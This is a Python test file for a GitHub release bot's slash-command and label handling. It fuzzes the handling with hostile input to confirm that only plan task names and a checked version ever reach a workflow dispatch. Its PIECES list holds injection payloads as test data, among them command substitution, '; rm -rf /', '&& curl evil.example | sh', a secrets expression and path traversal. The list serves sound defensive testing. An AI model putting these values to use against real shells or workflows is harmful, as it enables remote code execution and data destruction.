"""D16: whatever somebody types, a workflow's inputs are words of the plan and a checked version, or nothing runs."""

import re
from typing import Final

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from app.domain.answering import Understood, decide, understand
from app.domain.decision import Accepted, Refused
from app.domain.inputs import Labelled
from app.domain.messages import Message
from app.domain.release.effects import DispatchRun
from app.domain.release.events import ReleaseStarted
from app.domain.slash import find_invocations
from app.worker.asking import LABEL_PREFIX, asked_by_label
from tests.commands.deciding import COMMANDS, said
from tests.events.reading import payload, read
from tests.given import PLAN, facts, release, with_source

PIECES: Final = (
    "$(id)",
    "`id`",
    "${{ secrets.TOKEN }}",
    "${IFS}",
    "; rm -rf /",
    "&& curl evil.example | sh",
    "'",
    '"',
    "\\",
    "\n",
    "\r\n",
    "\0",
    "\x1b[31m",
    "::set-output name=x::y",
    "%0a",
    "\u202e",
    "\u2028",
    "é",
    "🎉",
    "--ref=evil",
    "-rf",
    "../../etc",
)
"""What a shell, a workflow's expressions, its command lines or a terminal would take for more than text."""

LONG: Final = "x" * 65_536

WORDS: Final = ("docs", "installers", "1.1", "1.0.0", "run", "retry", "start", " ", "=", "--force")
HOSTILE: Final = st.lists(st.sampled_from((*PIECES, *WORDS)) | st.text(max_size=8), min_size=1, max_size=6).map("".join)
SLUGS: Final = {task.slug for task in PLAN.tasks()}
VERSION: Final = re.compile(r"[0-9A-Za-z][0-9A-Za-z.+_-]{0,63}")
MARK: Final = re.compile(r"gng-[0-9a-f]{16}")


def answers(comment: str) -> list[Accepted | Refused | Message]:
    """What is decided on each command of a comment, by somebody who may do everything."""
    decisions: list[Accepted | Refused | Message] = []
    for invocation in find_invocations(comment):
        understood = understand(COMMANDS, invocation)
        is_start = isinstance(understood, Understood) and understood.command.name == "start"
        at = with_source(facts()) if is_start else facts(release())
        decisions.append(decide(understood, at, COMMANDS) if isinstance(understood, Understood) else understood)
    return decisions


def check_inputs(decision: Accepted) -> None:
    """Raise AssertionError where something else than words of the plan gets to a workflow, a branch or a tag."""
    for effect in decision.effects:
        if isinstance(effect, DispatchRun):
            assert set(effect.inputs) <= {"task", "version", "environment", "gonogo_id"}
            assert effect.inputs["task"] in SLUGS
            assert effect.inputs["version"] == "1.0.0"
            assert effect.inputs["environment"] == "production"
            assert MARK.fullmatch(effect.inputs["gonogo_id"])
            assert effect.candidate == "gonogo/1.0.0"
            assert effect.workflow == "release.yml"
    for event in decision.events:
        if isinstance(event, ReleaseStarted):
            assert VERSION.fullmatch(event.version)


@given(st.sampled_from(["", "run ", "retry ", "cancel ", "start ", "docs --force ", "start 1.0.0 --target "]), HOSTILE)
@example("", "docs")
@example("start ", "2.0.0$(id)")
def test_d16_whatever_is_typed_only_words_of_the_plan_reach_a_workflow(command: str, text: str) -> None:
    for decision in answers(f"/release {command}{text}"):
        if isinstance(decision, Accepted):
            check_inputs(decision)


@given(HOSTILE)
@example("--ref=evil")
def test_d16_a_label_is_no_other_way_in(text: str) -> None:
    body = payload("issues.labeled", label__name=f"{LABEL_PREFIX}{text}")
    for labelled in (value for value in read("issues", body) if isinstance(value, Labelled)):
        asking = asked_by_label(labelled)
        for invocation in asking.invocations if asking else ():
            understood = understand(COMMANDS, invocation)
            if not isinstance(understood, Understood):
                assert said(understood)
                continue
            decision = decide(understood, facts(release()), COMMANDS)
            if isinstance(decision, Accepted):
                check_inputs(decision)


@pytest.mark.parametrize("piece", [*PIECES, LONG], ids=lambda piece: ascii(piece[:20]))
@pytest.mark.parametrize("command", ["run docs{}", "run {}", "retry {}", "start 2.0.0{}", "start {}"])
def test_d16_what_is_hostile_is_a_task_of_the_plan_or_refused_in_words(command: str, piece: str) -> None:
    """What somebody means by it may still be plain: then it is that task, by the plan's own word, and nothing more."""
    decisions = answers(f"/release {command.format(piece)}")
    for decision in decisions:
        if isinstance(decision, Accepted):
            check_inputs(decision)
            continue
        text = said(decision.reason if isinstance(decision, Refused) else decision)
        assert 0 < len(text) < 5_000
        assert "\0" not in text
        assert "\x1b" not in text
        assert "\u202e" not in text
    assert decisions or len(piece) > 60_000  # GitHub takes no comment of more: whatever holds it, it is left alone


def test_d16_these_tests_see_what_runs() -> None:
    (decision,) = answers("/release run docs")
    assert isinstance(decision, Accepted)
    assert [e.inputs["task"] for e in decision.effects if isinstance(e, DispatchRun)] == ["build-docs"]
    (decision,) = answers("/release start 2.0.0")
    assert isinstance(decision, Accepted)
    assert isinstance(decision.events[0], ReleaseStarted)
